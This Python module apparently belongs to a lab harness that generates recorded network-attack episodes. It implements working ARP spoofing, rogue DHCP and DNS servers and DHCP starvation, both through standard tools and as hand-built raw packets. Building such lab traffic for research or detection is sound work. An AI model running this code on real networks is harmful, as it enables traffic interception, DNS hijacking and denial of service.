"""On the link: ARP spoofing, rogue DHCP and its starvation, rogue DNS."""

import random
import socket
import struct

from attacks import raw
from attacks.way import Way
from topology import ip, within


def between(act):
    """A client and the server it talks to; the attacker passes on what it gets."""
    client = act.rng.choice([host for host in act.recording.clients])
    act.note(targets=[client.v4, act.recording.site.v4])
    within(act.host.name, lambda: _forward(act.pick("forwards", ["1", "1", "0"])))
    return client, act.recording.site


def _forward(value):
    for name, text in (("ip_forward", value), ("conf/all/send_redirects", "0"), ("conf/eth0/send_redirects", "0")):
        with open(f"/proc/sys/net/ipv4/{name}", "w") as out:
            out.write(text)


def healed(attack):
    """Afterwards the poisoned tables are emptied, or others would suffer on."""
    def act_and_heal(act):
        try:
            attack(act)
        finally:
            act.end_all()
            for host in act.network.hosts:
                ip("-n", host.name, "neigh", "flush", "dev", "eth0")

    return act_and_heal


def arpspoof(act):
    client, site = between(act)
    act.run(["arpspoof", "-i", "eth0", *act.pick("shape", [["-r"], []]), "-t", client.v4, site.v4])


def ettercap(act):
    client, site = between(act)
    act.run(["ettercap", "-T", "-q", "-i", "eth0", "-M", act.pick("shape", ["arp:remote", "arp:oneway"]), f"/{client.v4}//",
             f"/{site.v4}//"])


def bettercap(act):
    client, site = between(act)
    for host in (client, site):  # it spoofs whom it knows
        act.run(["ping", "-q", "-c", "1", "-W", "1", host.v4], 2)
    act.command = ""
    act.run(["bettercap", "-iface", "eth0", "-no-colors", "-no-history", "-gateway-override", site.v4, "-eval",
             f"set arp.spoof.targets {client.v4}; set arp.spoof.fullduplex {act.pick('shape', ['true', 'false'])}; net.probe off; arp.spoof on; "
             f"sleep 60"])


def own_arp(act):
    """Replies or requests or announcements, unicast or to all, fast or slow."""
    client, site = between(act)
    kind, period = act.pick("shape", ["reply", "request", "announcement"]), act.draw("period_s", 0.1, 4.0)
    me = raw.mac(act.host.mac)
    with raw.frames() as out:
        for _ in act.every(period, act.pick("jitter", [0, 0.5])):
            for victim, other in ((client, site), (site, client)):
                to = b"\xff" * 6 if kind == "announcement" else raw.mac(victim.mac)
                body = struct.pack("!HHBBH", 1, 0x800, 6, 4, 2 if kind == "reply" else 1) + me + socket.inet_aton(other.v4) + to \
                    + socket.inet_aton(other.v4 if kind == "announcement" else victim.v4)
                out.send(to + me + b"\x08\x06" + body)


def victims(act, count=3):
    """Honest hosts that ask for an address while the rogue is there; what they say to it is of the episode."""
    chosen = act.rng.sample(act.recording.clients, min(count, len(act.recording.clients)))
    act.note(targets=[host.v4 for host in chosen])
    for host in chosen:
        act.relay(host, act.host.v4)
    return chosen


def ask_for_leases(act, hosts):
    def ask(host):
        while act.pause(act.rng.uniform(0.5, 2.5)):
            act.run(["udhcpc", "-i", "eth0", "-n", "-q", "-f", "-t", "2", "-T", "1", "-s", "/bin/true"], 5)

    return [act.elsewhere(host, lambda host=host: ask(host), "dhcp_renew") for host in hosts]


def rogue_dhcp(command):
    def attack(act):
        hosts = victims(act)
        act.spawn(command(act))
        for thread in ask_for_leases(act, hosts):
            thread.join()

    return attack


def dnsmasq_dhcp(act):
    return ["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--port=0", "--user=root", "--interface=eth0", "--bind-dynamic",
            f"--pid-file=/run/lab/tmp/rogue{act.rng.random()}", f"--dhcp-range={act.subnet}.60,{act.subnet}.90,120", "--no-ping",
            f"--dhcp-option=3,{act.host.v4}", f"--dhcp-option=6,{act.host.v4}", "--dhcp-authoritative",
            f"--dhcp-leasefile=/run/lab/tmp/rogue{act.rng.random()}"]


def udhcpd(act):
    leases = act.scratch(0)
    conf = act.scratch_lines([f"start {act.subnet}.60", f"end {act.subnet}.90", "interface eth0", f"opt dns {act.host.v4}",
                              f"opt router {act.host.v4}", "option lease 120", f"lease_file {leases}", f"pidfile {leases}.pid"])
    return ["udhcpd", "-f", "-a", "20", conf]


def own_dhcp(act):
    """Answers each DISCOVER and REQUEST at once, faster than the real one."""
    hosts = victims(act)
    late = act.pick("delay_s", [0.0, 0.0, 0.05, 0.3])
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for option in (socket.SO_REUSEADDR, socket.SO_BROADCAST):
        server.setsockopt(socket.SOL_SOCKET, option, 1)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    server.bind(("0.0.0.0", 67))
    server.settimeout(0.3)
    threads = ask_for_leases(act, hosts)
    while not act.over():
        try:
            asked = server.recv(2048)
        except TimeoutError:
            continue
        if len(asked) < 243:
            continue
        act.pause(late)
        kind = 5 if asked[242] == 3 else 2
        me = socket.inet_aton(act.host.v4)
        body = b"\x02" + asked[1:16] + socket.inet_aton(f"{act.subnet}.{act.rng.randrange(60, 90)}") + me + asked[24:236] \
            + b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + b"\x36\x04" + me + b"\x33\x04\0\0\0\x78\x01\x04\xff\xff\xff\0" \
            + b"\x03\x04" + me + b"\x06\x04" + me + b"\xff"
        server.sendto(body.ljust(300, b"\0"), ("255.255.255.255", 68))
    server.close()
    for thread in threads:
        thread.join()


def starvation(words):
    def attack(act):
        act.note(evasion="forged cards", targets=[act.recording.site.v4])
        act.run(words)

    return attack


def yersinia(act):
    """Tens of thousands of frames a second, so for a moment only. It ends when its input does."""
    act.note(evasion="forged cards", targets=[act.recording.site.v4])
    act.spawn(["yersinia", "dhcp", "-attack", "1", "-interface", "eth0"], stdin=True)
    act.begun()
    act.pause(act.pick("seconds", [0.7, 1.0]))


def own_starvation(act):
    """A new card for each DISCOVER."""
    rng = random.Random(act.rng.random())
    act.note(evasion="forged cards", targets=[act.recording.site.v4])
    with raw.frames() as out:
        for _ in act.every(act.draw("period_s", 0.01, 0.5), 0.3):
            card = bytes([2, *rng.randbytes(5)])
            body = b"\x01\x01\x06\x00" + rng.randbytes(4) + bytes(20) + card + bytes(202) + b"\x63\x82\x53\x63\x35\x01\x01\xff"
            out.send(b"\xff" * 6 + card + b"\x08\x00" + raw.datagram("0.0.0.0", "255.255.255.255", (68, 67), body.ljust(300, b"\0")))


def rogue_dns(act):
    """A resolver nobody appointed, and hosts that were told to ask it; then a page from where it points."""
    hosts = victims(act)
    act.spawn(["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--no-resolv", "--no-hosts", "--user=root",
               f"--listen-address={act.host.v4}", "--bind-interfaces", f"--pid-file=/run/lab/tmp/rogue{act.rng.random()}",
               f"--address=/#/{act.host.v4}"])
    for thread in ask_names(act, hosts):
        thread.join()


def own_rogue_dns(act):
    hosts = victims(act)
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((act.host.v4, 53))
    server.settimeout(0.3)
    threads = ask_names(act, hosts)
    while not act.over():
        try:
            data, peer = server.recvfrom(1024)
        except TimeoutError:
            continue
        server.sendto(data[:2] + b"\x81\x80\0\x01\0\x01\0\0\0\0" + data[12:].split(b"\0\x00\x29")[0] + b"\xc0\x0c\0\x01\0\x01\0\0\0\x3c"
                      b"\0\x04" + socket.inet_aton(act.host.v4), peer)
    server.close()
    for thread in threads:
        thread.join()


def ask_names(act, hosts):
    def ask():
        while act.pause(act.rng.expovariate(1.5)):
            act.run(["dig", f"@{act.host.v4}", "+tries=1", "+time=1", "+noedns", f"{act.rng.choice(['www', 'mail', 'bank'])}.example"], 3)

    return [act.elsewhere(host, ask, "dns_single") for host in hosts]


WAYS = [Way("arp_spoofing", tool, "between", healed(act), link_layer=True, alone=True, seconds=(10, 20))
        for tool, act in [("arpspoof", arpspoof), ("ettercap", ettercap), ("bettercap", bettercap), ("ours", own_arp)]]
R = "rogue_service"
WAYS += [
    Way(R, "dnsmasq", "dhcp", rogue_dhcp(dnsmasq_dhcp), alone=True), Way(R, "udhcpd", "dhcp", rogue_dhcp(udhcpd), alone=True),
    Way(R, "ours", "dhcp", own_dhcp, alone=True), Way(R, "dnsmasq", "dns", rogue_dns), Way(R, "ours", "dns", own_rogue_dns),
    Way(R, "dhcpstarv", "starvation", starvation(["dhcpstarv", "-i", "eth0"]), forges_macs=True, seconds=(5, 10)),
    Way(R, "yersinia", "starvation", yersinia, forges_macs=True, seconds=(2, 3)),
    Way(R, "ours", "starvation", own_starvation, forges_macs=True, seconds=(5, 10)),
]
TOOLS = {"arpspoof": "dsniff", "ettercap": "ettercap-text-only", "bettercap": "bettercap", "dnsmasq": "dnsmasq-base",
         "udhcpd": "udhcpd", "dhcpstarv": "dhcpstarv", "yersinia": "yersinia", "ours": "ours"}
